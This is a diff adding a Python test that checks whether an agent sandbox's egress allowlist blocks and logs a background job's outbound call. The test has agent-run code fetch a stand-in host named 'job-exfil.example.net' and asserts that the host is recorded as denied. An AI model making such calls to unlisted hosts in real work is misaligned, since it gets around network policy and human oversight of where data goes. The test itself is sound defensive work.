@@ -391,6 +391,31 @@ def test_a_sessions_credential_works_from_its_own_session_only_and_not_after_it_
     other.end()
 
 
+def test_a_background_jobs_row_carries_what_the_job_sent(local: Local) -> None:
+    # Given an allowlisted turn
+    turn = Turn(local)
+    # When a background job of it calls a host the policy does not list, and the agent polls it
+    submitted = local.dispatch(
+        turn._event(
+            "execute_code",
+            call_id=f"{turn.turn_id}-job",
+            code=_fetch("https://job-exfil.example.net/"),
+            background=True,
+        )
+    )
+    assert submitted["status"] == "running", submitted
+    poll = {k: v for k, v in turn._event("get_job", job_id=submitted["job_id"]).items() if k != "template_id"}
+    answers: list[dict[str, Any]] = []
+    assert _wait(
+        lambda: answers.append(local.dispatch(poll)) or answers[-1].get("status") != "running", 60, 0.5
+    )
+    # Then the job's one row names the denied host
+    assert answers[-1]["status"] == "completed", answers[-1]
+    egress = local.row(submitted["invocation_id"])["egress"]
+    assert egress["mode"] == "allowlist" and "job-exfil.example.net" in egress["denied_hosts"], egress
+    turn.end()
+
+
 # --- changes that reach the egress without a deploy (they come last: they change the stack) -------
 def _poll_code(url: str, seconds: int) -> str:
     """Session code: GET `url` every 0.5 s until refused after a first success (a change made just
